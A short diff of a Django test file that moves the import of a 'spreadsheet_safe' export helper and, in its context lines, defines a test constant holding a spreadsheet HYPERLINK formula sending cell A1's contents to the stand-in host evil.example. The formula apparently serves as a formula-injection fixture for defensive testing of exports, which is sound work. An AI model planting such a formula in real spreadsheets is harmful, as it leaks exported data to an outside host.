@@ -8,7 +8,7 @@ import openpyxl
 import pytest
 from django.urls import reverse
 
-from campaigns.exports import spreadsheet_safe
+from campaigns.admin.exports import spreadsheet_safe
 from campaigns.models import Locality, ResidentialGroup
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
